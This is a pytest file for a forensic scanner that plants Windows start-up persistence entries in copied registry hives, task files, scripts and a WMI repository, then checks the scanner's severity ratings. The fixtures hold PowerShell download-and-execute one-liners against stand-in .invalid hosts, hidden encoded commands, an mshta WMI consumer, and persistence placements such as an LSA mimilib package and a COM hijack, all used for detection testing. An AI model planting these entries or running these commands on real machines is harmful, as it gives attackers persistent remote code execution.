"""Every Windows start-up place: an entry written into copies of real hives with hivexsh (or as a real
task file, shortcut, script or ini file) is found; a benign entry in the same place is found too and
judged separately. The WMI repository bytes are built in the test (see winsupport.wmi_repository):
no real OBJECTS.DATA with a planted consumer is available."""

from __future__ import annotations

from pathlib import Path

import pytest

from techcheck.artifacts import Artifact
from techcheck.collectors.windows.tasks import parse_task_actions
from techcheck.collectors.windows.wmi import find_consumers
from techcheck.ruleset import load_rules, shipped_rules_dir
from techcheck.scan import ScanResult, run_scan
from techcheck.target import open_image
from tests.winsupport import (
    BENIGN_TASKS,
    binary,
    filetime,
    hivex_plant,
    multi_sz,
    put_hive,
    put_task,
    qword,
    shell_link,
    task_actions,
    wmi_repository,
)

RULES = load_rules([shipped_rules_dir()])
CV = r"Microsoft\Windows\CurrentVersion"
NT = r"Microsoft\Windows NT\CurrentVersion"
CONTROL = r"ControlSet001\Control"
DOWNLOAD = "powershell.exe -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a')\""
ENCODED = "-NoProfile -WindowStyle Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="
MMDEVICE = "{BCDE0395-E52F-467C-8E3D-C4579291692E}"  # MMDeviceEnumerator, a class many programs load
TASK_XML = """<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <RegistrationInfo><URI>{uri}</URI></RegistrationInfo>
  <Triggers><LogonTrigger><Enabled>true</Enabled></LogonTrigger></Triggers>
  <Principals><Principal id="Author"><UserId>S-1-5-18</UserId></Principal></Principals>
  <Settings><Hidden>{hidden}</Hidden><Enabled>true</Enabled></Settings>
  <Actions Context="Author"><Exec><Command>{command}</Command><Arguments>{arguments}</Arguments></Exec></Actions>
</Task>
"""


def write_task(root: Path, uri: str, command: str, arguments: str, hidden: bool = False) -> None:
    dest = root / "Windows/System32/Tasks" / uri.strip("\\").replace("\\", "/")
    dest.parent.mkdir(parents=True, exist_ok=True)
    text = TASK_XML.format(uri=uri, command=command, arguments=arguments, hidden=str(hidden).lower())
    dest.write_bytes(b"\xff\xfe" + text.encode("utf-16-le"))


def plant_software(root: Path) -> None:
    software = put_hive(root / "Windows/System32/config/SOFTWARE", "default")  # a copy of a real hive
    plant = lambda key, values: hivex_plant(software, key, values)  # noqa: E731
    plant(rf"{CV}\Run", [("SecurityHealth", r"expandstring:%windir%\system32\SecurityHealthSystray.exe")])
    plant(rf"{CV}\RunOnce", [("upd", f"string:{DOWNLOAD}")])
    plant(rf"Wow6432Node\{CV}\Run", [("x86helper", r"string:C:\ProgramData\x86\helper.exe")])
    plant(rf"{CV}\RunOnceEx\0001\Depend", [("1", r"string:C:\Users\Public\dep.dll")])
    plant(rf"{NT}\Winlogon", [("Userinit", r"string:C:\Windows\system32\userinit.exe,"),
                              ("Shell", "string:explorer.exe"), ("Taskman", r"string:C:\ProgramData\tm.exe")])
    plant(rf"{NT}\Winlogon\Notify\WgaLogon", [("DllName", r"string:C:\Windows\Temp\notify.dll")])
    plant(rf"{NT}\Image File Execution Options\notepad.exe", [("GlobalFlag", "dword:0x200")])
    plant(rf"{NT}\Image File Execution Options\chrome.exe", [("MitigationOptions", "hex:3:00,01")])
    plant(rf"{NT}\SilentProcessExit\notepad.exe", [("ReportingMode", "dword:0x1"),
                                                   ("MonitorProcess", r"string:C:\ProgramData\mon.exe")])
    plant(r"Microsoft\Active Setup\Installed Components\{89820200-ECBD-11cf-8B85-00AA005B4383}",
          [("@", "string:Internet Explorer"),
           ("StubPath", r"expandstring:%SystemRoot%\system32\ie4uinit.exe -UserConfig")])
    plant(r"Microsoft\Active Setup\Installed Components\{0A1B2C3D-1111-2222-3333-444455556666}",
          [("StubPath", r"string:C:\Users\Public\stub.exe")])
    plant(r"Microsoft\NetSh", [("ifmon", "string:ifmon.dll"), ("rasmontr", "string:rasmontr.dll"),
                               ("helper", r"string:C:\Users\Public\nh.dll")])
    plant(r"Microsoft\Command Processor", [("AutoRun", r"string:C:\Windows\Temp\a.bat")])
    plant(r"Policies\Microsoft\Windows NT\Terminal Services", [("InitialProgram", r"string:C:\ProgramData\rdp.exe")])
    plant(rf"Classes\CLSID\{MMDEVICE}", [("@", "string:MMDeviceEnumerator class")])
    plant(rf"Classes\CLSID\{MMDEVICE}\InprocServer32", [("@", r"expandstring:%SystemRoot%\System32\MMDevApi.dll")])
    cache = rf"{NT}\Schedule\TaskCache"
    plant(rf"{cache}\Tasks\{{6A1E2F3B-0000-4000-8000-00000000AAAA}}",
          [("Path", r"string:\Microsoft\Windows\UpdateOrchestrator\Refresh"),
           ("Actions", binary(task_actions("powershell.exe", ENCODED)))])
    plant(rf"{cache}\Tree\Microsoft\Windows\UpdateOrchestrator\Refresh",
          [("Id", "string:{6A1E2F3B-0000-4000-8000-00000000AAAA}"), ("Index", "dword:0x3")])
    plant(rf"{cache}\Tasks\{{6A1E2F3B-0000-4000-8000-00000000BBBB}}",
          [("Path", r"string:\MicrosoftEdgeUpdateTaskMachineCore"),
           ("Actions", binary(task_actions(r"C:\Program Files (x86)\Microsoft\EdgeUpdate\MicrosoftEdgeUpdate.exe",
                                           "/c")))])


def plant_system(root: Path) -> None:
    system = put_hive(root / "Windows/System32/config/SYSTEM", "system10")
    plant = lambda key, values: hivex_plant(system, key, values)  # noqa: E731
    plant(rf"{CONTROL}\Session Manager\AppCertDlls", [("cert", r"string:C:\ProgramData\cert.dll")])
    plant(rf"{CONTROL}\Session Manager", [("BootExecute", multi_sz(["autocheck autochk *", "bootrun"]))])
    plant(rf"{CONTROL}\Lsa", [("Authentication Packages", multi_sz(["msv1_0"])),
                              ("Security Packages", multi_sz(["kerberos", "msv1_0", "schannel", "mimilib"])),
                              ("Notification Packages", multi_sz(["scecli"]))])
    plant(rf"{CONTROL}\Print\Monitors\Evil Port", [("Driver", "string:evilmon.dll")])
    plant(r"ControlSet001\Services\kbdfilt",
          [("ImagePath", r"string:\??\C:\Users\Public\kbdfilt.sys"), ("Start", "dword:0x1"), ("Type", "dword:0x1")])


def plant_users(root: Path) -> None:
    user = put_hive(root / "Users/ana/NTUSER.DAT", "nfury")
    plant = lambda key, values: hivex_plant(user, key, values)  # noqa: E731
    plant("Environment", [("TEMP", r"expandstring:%USERPROFILE%\AppData\Local\Temp"),
                          ("UserInitMprLogonScript", r"string:C:\Users\ana\AppData\Roaming\logon.bat")])
    plant(r"Control Panel\Desktop", [("ScreenSaveActive", "string:1"),
                                     ("SCRNSAVE.EXE", r"string:C:\Users\ana\AppData\Local\Temp\ss.scr")])
    plant(r"Software\Microsoft\Command Processor", [("AutoRun", f"string:powershell.exe {ENCODED}")])
    plant(r"Software\Microsoft\Windows\CurrentVersion\CapabilityAccessManager\ConsentStore\webcam\NonPackaged"
          r"\C:#Users#ana#AppData#Local#Temp#cam.exe",
          [("Value", "string:Allow"), ("LastUsedTimeStart", qword(filetime("2024-03-01T21:14:05"))),
           ("LastUsedTimeStop", qword(filetime("2024-03-01T21:44:05")))])
    classes = put_hive(root / "Users/ana/AppData/Local/Microsoft/Windows/UsrClass.dat", "bperry")
    hivex_plant(classes, rf"CLSID\{MMDEVICE}\InprocServer32",
                [("@", r"string:C:\Users\ana\AppData\Roaming\Microsoft\mmdev.dll")])
    hivex_plant(classes, r"CLSID\{A0396A93-DC06-4AEF-BEE9-95FFCCAEF20E}\InprocServer32",  # OneDrive's own class
                [("@", r"string:C:\Users\ana\AppData\Local\Microsoft\OneDrive\23.038.0219.0001\FileSyncShell64.dll")])
    other = put_hive(root / "Users/ben/NTUSER.DAT", "vibranium")
    hivex_plant(other, r"Control Panel\Desktop", [("SCRNSAVE.EXE", r"string:C:\Windows\system32\Bubbles.scr")])


def plant_files(root: Path) -> None:
    for task in BENIGN_TASKS:
        put_task(root, task)
    write_task(root, r"\Microsoft\Windows\Maintenance\Cleanup", "powershell.exe", ENCODED)
    write_task(root, r"\SyncHelper", "wscript.exe", r"C:\Users\ana\AppData\Roaming\sync.vbs", hidden=True)
    gp = root / "Windows/System32/GroupPolicy"
    (gp / "Machine/Scripts").mkdir(parents=True)
    (gp / "Machine/Scripts/scripts.ini").write_bytes(
        b"\xff\xfe" + "\r\n[Startup]\r\n0CmdLine=C:\\ProgramData\\s.bat\r\n0Parameters=\r\n".encode("utf-16-le"))
    (gp / "User/Scripts/Logon").mkdir(parents=True)
    (gp / "User/Scripts/psscripts.ini").write_bytes(
        b"\xff\xfe" + "[Logon]\r\n0CmdLine=logon.ps1\r\n0Parameters=-w hidden\r\n".encode("utf-16-le"))
    (gp / "User/Scripts/Logon/logon.ps1").write_text("IEX (iwr http://example.invalid/x).Content\r\n")
    docs = root / "Users/ana/Documents"
    (docs / "WindowsPowerShell").mkdir(parents=True)
    (docs / "WindowsPowerShell/Microsoft.PowerShell_profile.ps1").write_text(
        "IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/p')\r\n")
    (docs / "PowerShell").mkdir(parents=True)
    (docs / "PowerShell/Microsoft.PowerShell_profile.ps1").write_text(
        "Import-Module posh-git\r\nSet-PSReadLineOption -EditMode Emacs\r\n")
    startup = root / "Users/ana/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup"
    startup.mkdir(parents=True)
    (startup / "agent.lnk").write_bytes(shell_link("C:\\Users\\Public\\agent.exe", "--silent"))
    (startup / "Send to OneNote.lnk").write_bytes(
        shell_link("C:\\Program Files\\Microsoft Office\\root\\Office16\\ONENOTEM.EXE", "/tsr"))
    wbem = root / "Windows/System32/wbem/Repository"
    wbem.mkdir(parents=True)
    (wbem / "OBJECTS.DATA").write_bytes(wmi_repository(
        [("CommandLineEventConsumer", "Updater", f"powershell.exe {ENCODED}"),
         ("ActiveScriptEventConsumer", "Beacon", 'Set s = CreateObject("WScript.Shell"): s.Run "mshta http://x.invalid/a"'),
         ("CommandLineEventConsumer", "BVTConsumer", "cscript KernCap.vbs")],
        [("CommandLineEventConsumer", "Updater", "AtStartup"), ("ActiveScriptEventConsumer", "Beacon", "Every5Min"),
         ("CommandLineEventConsumer", "BVTConsumer", "BVTFilter")]))


@pytest.fixture(scope="module")
def places(tmp_path_factory: pytest.TempPathFactory) -> ScanResult:
    root = tmp_path_factory.mktemp("places")
    plant_software(root)
    plant_system(root)
    plant_users(root)
    plant_files(root)
    target = open_image(str(root))
    return run_scan(target, RULES)


def entries(result: ScanResult, mechanism: str) -> dict[str, Artifact]:
    return {str(a.fields["name"]): a for a in result.artifacts
            if a.kind == "autostart" and a.fields.get("mechanism") == mechanism}


def commands(result: ScanResult, mechanism: str) -> dict[str, str]:
    return {name: str(a.fields.get("command")) for name, a in entries(result, mechanism).items()}


def test_run_keys_machine_32_bit_and_runonceex_depend(places: ScanResult) -> None:
    machine = {(a.location.registry_key, n): a.fields["exe"] for n, a in entries(places, "run_key").items()
               if a.fields["scope"] == "system"}
    assert machine == {
        (rf"HKLM\SOFTWARE\{CV}\Run", "SecurityHealth"): r"C:\Windows\system32\SecurityHealthSystray.exe",
        (rf"HKLM\SOFTWARE\{CV}\RunOnce", "upd"): "powershell.exe",
        (rf"HKLM\SOFTWARE\Wow6432Node\{CV}\Run", "x86helper"): r"C:\ProgramData\x86\helper.exe",
        (rf"HKLM\SOFTWARE\{CV}\RunOnceEx\0001\Depend", "1"): r"C:\Users\Public\dep.dll",
    }


def test_winlogon_ifeo_silent_exit_and_active_setup(places: ScanResult) -> None:
    assert commands(places, "winlogon") == {
        "Userinit": r"C:\Windows\system32\userinit.exe,", "Shell": "explorer.exe", "Taskman": r"C:\ProgramData\tm.exe",
        r"Notify\WgaLogon": r"C:\Windows\Temp\notify.dll"}
    assert entries(places, "ifeo") == {}  # IFEO keys without a Debugger (mitigation options) start nothing
    monitor = entries(places, "silent_process_exit")["notepad.exe"]
    assert (monitor.fields["exe"], monitor.fields["enabled"]) == (r"C:\ProgramData\mon.exe", True)
    setup = entries(places, "active_setup")
    assert {n: a.fields["exe"] for n, a in setup.items()} == {
        "{89820200-ECBD-11cf-8B85-00AA005B4383}": r"C:\Windows\system32\ie4uinit.exe",
        "{0A1B2C3D-1111-2222-3333-444455556666}": r"C:\Users\Public\stub.exe"}


def test_dll_hooks_of_the_system_hive(places: ScanResult) -> None:
    assert {n: a.fields["exe"] for n, a in entries(places, "appcert").items()} == {"cert": r"C:\ProgramData\cert.dll"}
    lsa = sorted(a.fields["exe"] for a in places.artifacts if a.fields.get("mechanism") == "lsa_package")
    assert r"C:\Windows\System32\mimilib.dll" in lsa and r"C:\Windows\System32\kerberos.dll" in lsa
    monitors = {n: a.fields["exe"] for n, a in entries(places, "print_monitor").items()}
    assert monitors["Evil Port"] == r"C:\Windows\System32\evilmon.dll"
    assert monitors["Local Port"] == r"C:\Windows\System32\localspl.dll"  # the real hive's own monitors stay
    boot = sorted(a.fields["exe"] for a in places.artifacts if a.fields.get("mechanism") == "boot_execute")
    assert boot == [r"C:\Windows\System32\autochk.exe", r"C:\Windows\System32\bootrun.exe"]
    netsh = {n: a.fields["exe"] for n, a in entries(places, "netsh_helper").items()}
    assert netsh == {"ifmon": r"C:\Windows\System32\ifmon.dll", "rasmontr": r"C:\Windows\System32\rasmontr.dll",
                     "helper": r"C:\Users\Public\nh.dll"}
    driver = next(a for a in places.artifacts if a.kind == "service" and a.fields["name"] == "kbdfilt")
    assert driver.fields["exe"] == r"C:\Users\Public\kbdfilt.sys" and driver.fields["start_type"] == "system"


def test_single_value_places(places: ScanResult) -> None:
    autorun = {(a.fields["scope"], a.fields["command"]) for a in entries_all(places, "cmd_autorun")}
    assert autorun == {("system", r"C:\Windows\Temp\a.bat"), ("user", f"powershell.exe {ENCODED}")}
    logon = entries(places, "logon_script")["UserInitMprLogonScript"]
    assert (logon.fields["user"], logon.fields["exe"]) == ("ana", r"C:\Users\ana\AppData\Roaming\logon.bat")
    savers = {a.fields["user"]: a.fields["exe"] for a in entries_all(places, "screensaver")}
    assert savers == {"ana": r"C:\Users\ana\AppData\Local\Temp\ss.scr", "ben": r"C:\Windows\system32\Bubbles.scr"}
    assert commands(places, "ts_initial_program") == {"InitialProgram": r"C:\ProgramData\rdp.exe"}


def entries_all(result: ScanResult, mechanism: str) -> list[Artifact]:
    return [a for a in result.artifacts if a.kind == "autostart" and a.fields.get("mechanism") == mechanism]


def test_tasks_from_files_and_from_the_task_registry_only(places: ScanResult) -> None:
    tasks = entries(places, "scheduled_task")
    refresh = tasks[r"\Microsoft\Windows\UpdateOrchestrator\Refresh"]  # only in TaskCache, no SD
    assert refresh.fields["command"] == f"powershell.exe {ENCODED}" and refresh.fields["hidden"] is True
    assert refresh.location.registry_key.endswith(r"TaskCache\Tasks\{6A1E2F3B-0000-4000-8000-00000000AAAA}")
    edge = [a for a in entries_all(places, "scheduled_task") if "EdgeUpdateTaskMachineCore" in str(a.fields["name"])]
    assert len(edge) == 1 and edge[0].location.path  # the task file wins; TaskCache adds no second copy
    sync = tasks[r"\SyncHelper"]
    assert sync.fields["hidden"] is True and sync.fields["exe"] == "wscript.exe"


def test_policy_scripts_profiles_startup_and_wmi(places: ScanResult) -> None:
    gp = {n: (a.fields["exe"], a.fields["command"], a.fields["trigger"])
          for n, a in entries(places, "policy_script").items()}
    assert gp == {
        "Startup 0": (r"C:\ProgramData\s.bat", r"C:\ProgramData\s.bat", "Windows start-up"),
        "Logon 0": (r"C:\Windows\System32\GroupPolicy\User\Scripts\Logon\logon.ps1",
                    r"powershell.exe -File C:\Windows\System32\GroupPolicy\User\Scripts\Logon\logon.ps1 -w hidden",
                    "sign-in")}
    profiles = sorted(a.fields["exe"] for a in entries_all(places, "powershell_profile"))
    assert profiles == [r"C:\Users\ana\Documents\PowerShell\Microsoft.PowerShell_profile.ps1",
                        r"C:\Users\ana\Documents\WindowsPowerShell\Microsoft.PowerShell_profile.ps1"]
    startup = {n: a.fields["exe"] for n, a in entries(places, "startup_folder").items()}
    assert startup == {"agent.lnk": r"C:\Users\Public\agent.exe",
                       "Send to OneNote.lnk": r"C:\Program Files\Microsoft Office\root\Office16\ONENOTEM.EXE"}
    wmi = {n: (a.fields["command"], a.fields["enabled"]) for n, a in entries(places, "wmi_subscription").items()}
    assert wmi == {"Updater": (f"powershell.exe {ENCODED}", True),
                   "Beacon": ('Set s = CreateObject("WScript.Shell"): s.Run "mshta http://x.invalid/a"', True),
                   "BVTConsumer": ("cscript KernCap.vbs", True)}


def test_com_override_of_a_machine_class_only(places: ScanResult) -> None:
    overrides = entries(places, "com_override")
    assert list(overrides) == [MMDEVICE]
    art = overrides[MMDEVICE]
    assert art.fields["exe"] == r"C:\Users\ana\AppData\Roaming\Microsoft\mmdev.dll"
    assert art.location.registry_key == rf"HKU\ana\Software\Classes\CLSID\{MMDEVICE}\InprocServer32"
    assert "MMDevApi.dll" in str(art.fields["description"])


def test_task_actions_blob_parser() -> None:
    actions = parse_task_actions(task_actions(r"C:\x.exe", "-a b"))
    assert [(a.kind, a.command, a.arguments) for a in actions] == [("exec", r"C:\x.exe", "-a b")]
    for broken in (b"", b"\x03\x00\xff\xff\xff\x7f", task_actions("x", "y")[:-5], b"\x09\x00"):
        with pytest.raises(ValueError):
            parse_task_actions(broken)


def test_wmi_byte_search_is_bounded_and_ignores_unbound_noise() -> None:
    data = wmi_repository([("CommandLineEventConsumer", "Orphan", r"C:\x\y.exe")], [])
    found = find_consumers(data)
    assert [(c.name, c.command, c.bound) for c in found] == [("", r"C:\x\y.exe", False)]
    class_definition = b"CommandLineEventConsumer\x00\x00CommandLineTemplate\x00ExecutablePath\x00WorkingDirectory"
    assert find_consumers(class_definition * 1000) == []


def worst(result: ScanResult) -> dict[tuple[str, str, str], str]:
    """(mechanism or kind, name or app, user) -> the worst windows.startup severity that judged it."""
    order = {"info": 0, "review": 1, "alert": 2}
    out: dict[tuple[str, str, str], str] = {}
    for rule, arts in (m for f in result.findings for m in f.matched):
        if rule.id.startswith("windows.startup."):
            for a in arts:
                key = (str(a.fields.get("mechanism") or a.kind), str(a.fields.get("name") or a.fields.get("app")),
                       str(a.fields.get("user") or ""))
                if order[rule.severity] > order.get(out.get(key, "info"), 0):
                    out[key] = rule.severity
    return out


EXPECTED_SEVERITY = {  # the issue's "Needs attention" (alert) and "Worth checking" (review) lists
    ("run_key", "upd", ""): "alert",  # download and run
    ("scheduled_task", r"\Microsoft\Windows\Maintenance\Cleanup", ""): "alert",  # encoded command
    ("scheduled_task", r"\Microsoft\Windows\UpdateOrchestrator\Refresh", ""): "alert",  # TaskCache only, encoded
    ("scheduled_task", r"\SyncHelper", ""): "alert",  # hidden task, wscript script in a user folder
    ("cmd_autorun", "AutoRun", "ana"): "alert",  # hidden encoded PowerShell
    ("powershell_profile", "Microsoft.PowerShell_profile.ps1", "ana"): "alert",  # downloads and runs (file text)
    ("policy_script", "Logon 0", ""): "alert",  # the script downloads and runs
    ("wmi_subscription", "Updater", ""): "alert",
    ("wmi_subscription", "Beacon", ""): "alert",  # VBScript starting mshta with a web address
    ("winlogon", "Taskman", ""): "alert",
    ("winlogon", r"Notify\WgaLogon", ""): "alert",
    ("silent_process_exit", "notepad.exe", ""): "alert",
    ("appcert", "cert", ""): "alert",
    ("lsa_package", "mimilib", ""): "alert",
    ("com_override", MMDEVICE, "ana"): "alert",
    ("run_key", "x86helper", ""): "review",
    ("run_key", "1", ""): "review",  # RunOnceEx Depend library
    ("active_setup", "{0A1B2C3D-1111-2222-3333-444455556666}", ""): "review",
    ("netsh_helper", "helper", ""): "review",
    ("print_monitor", "Evil Port", ""): "review",
    ("boot_execute", "BootExecute", ""): "review",
    ("cmd_autorun", "AutoRun", ""): "review",
    ("logon_script", "UserInitMprLogonScript", "ana"): "review",
    ("screensaver", "SCRNSAVE.EXE", "ana"): "review",
    ("ts_initial_program", "InitialProgram", ""): "review",
    ("startup_folder", "agent.lnk", "ana"): "review",
    ("policy_script", "Startup 0", ""): "review",
    ("service", "kbdfilt", ""): "review",
    ("permission", r"C:\Users\ana\AppData\Local\Temp\cam.exe", "ana"): "review",
}


def test_each_place_is_judged_at_the_issue_severity(places: ScanResult) -> None:
    judged = worst(places)
    assert {k: judged.get(k) for k in EXPECTED_SEVERITY} == EXPECTED_SEVERITY
    benign = [("run_key", "SecurityHealth", ""), ("active_setup", "{89820200-ECBD-11cf-8B85-00AA005B4383}", ""),
              ("winlogon", "Userinit", ""), ("winlogon", "Shell", ""), ("print_monitor", "Local Port", ""),
              ("lsa_package", "kerberos", ""), ("netsh_helper", "ifmon", ""), ("screensaver", "SCRNSAVE.EXE", "ben"),
              ("startup_folder", "Send to OneNote.lnk", "ana"), ("wmi_subscription", "BVTConsumer", "")]
    assert {k: judged[k] for k in benign if k in judged} == {}
    profiles = {a.fields["runs"]: (a.fields["origin"], a.fields["personal"], a.fields["behaviour"])
                for a in entries_all(places, "powershell_profile")}
    assert profiles[r"C:\Users\ana\Documents\PowerShell\Microsoft.PowerShell_profile.ps1"] == (
        "unknown", True, ["user_folder"])  # personal: judged by what it runs, and posh-git runs nothing odd
    facts = {n: (a.fields["origin"], a.fields.get("interpreter"), a.fields["behaviour"])
             for n, a in entries(places, "run_key").items()}
    assert facts["upd"] == ("unknown", "powershell", ["download_exec", "inline_code"])
    assert facts["SecurityHealth"][0] == "system"
    edge = next(a for a in entries_all(places, "scheduled_task") if "EdgeUpdate" in str(a.fields["name"]))
    assert edge.fields["origin"] == "installed"


def test_entries_carry_typed_times(places: ScanResult) -> None:
    upd = entries(places, "run_key")["upd"]
    assert [(t.kind, str(t.source)) for t in upd.fields["times"]] == [("changed", "registry key last write")]
    # hivexsh keeps a key's own last-write time: this is the real RunOnce key's, from the Default hive.
    assert upd.fields["times"][0].when.isoformat(timespec="seconds") == "2022-10-31T07:23:59+00:00"
    sync = entries(places, "scheduled_task")[r"\SyncHelper"]
    assert [(t.kind, str(t.source)) for t in sync.fields["times"]] == [("changed", "file modification time")]


def test_programs_list_entries_carry_their_install_date(tmp_path: Path) -> None:
    root = tmp_path / "img"
    hive = put_hive(root / "Users/ana/NTUSER.DAT", "default")
    hivex_plant(hive, rf"Software\{CV}\Uninstall\Zoom", [("DisplayName", "string:Zoom"),
                                                         ("InstallDate", "string:20240301")])
    (root / "Windows/System32").mkdir(parents=True)
    result = run_scan(open_image(str(root)), RULES)
    zoom = next(a for a in result.artifacts if a.kind == "app" and a.fields.get("name") == "Zoom")
    installed = [t for t in zoom.fields["times"] if t.kind == "installed"]
    assert [(t.when.date().isoformat(), str(t.source)) for t in installed] == [
        ("2024-03-01", "programs list install date")]


def test_garbage_in_the_new_places_gives_notes_not_crashes(tmp_path: Path) -> None:
    import random

    rng = random.Random(7)
    root = tmp_path / "img"
    software = put_hive(root / "Windows/System32/config/SOFTWARE", "default")
    hivex_plant(software, rf"{NT}\Schedule\TaskCache\Tasks\{{BAD}}",
                [("Path", r"string:\Broken"), ("Actions", binary(b"\x03\x00" + bytes(rng.randrange(256)
                                                                                   for _ in range(300))))])
    wbem = root / "Windows/System32/wbem/Repository"
    wbem.mkdir(parents=True)
    junk = bytes(rng.randrange(256) for _ in range(200_000))
    (wbem / "OBJECTS.DATA").write_bytes(junk + b"CommandLineEventConsumer\x00" * 2000 + junk)
    scripts = root / "Windows/System32/GroupPolicy/Machine/Scripts"
    scripts.mkdir(parents=True)
    (scripts / "scripts.ini").write_bytes(b"\xff\xfe" + junk[:5000])
    profile = root / "Windows/System32/WindowsPowerShell/v1.0"
    profile.mkdir(parents=True)
    (profile / "profile.ps1").write_bytes(junk[:50_000])
    result = run_scan(open_image(str(root)), RULES)
    checks = {c.name: c for c in result.checks}
    for name in ("windows.tasks", "windows.wmi_subscriptions", "windows.policy_scripts",
                 "windows.powershell_profiles"):
        assert checks[name].status == "ok", (name, checks[name])
    assert any("could not read the task's actions" in n.message for n in checks["windows.tasks"].notes)
    broken = [a for a in result.artifacts if a.fields.get("name") == r"\Broken"]
    assert len(broken) == 1 and broken[0].fields["origin"] == "unknown"
